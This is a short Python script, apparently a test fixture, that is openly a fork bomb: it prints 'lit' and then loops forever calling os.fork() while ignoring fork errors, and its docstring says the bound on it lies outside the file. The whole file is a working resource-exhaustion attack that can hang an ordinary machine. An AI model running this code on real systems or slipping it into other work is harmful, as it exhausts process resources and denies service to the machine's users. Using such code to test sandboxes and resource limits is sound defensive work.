"""A fork bomb: every process forks for ever. What bounds it is not in here."""

# ruff: noqa: T201 -- it answers on standard output

import contextlib
import os

print("lit", flush=True)
while True:
    with contextlib.suppress(OSError):
        os.fork()
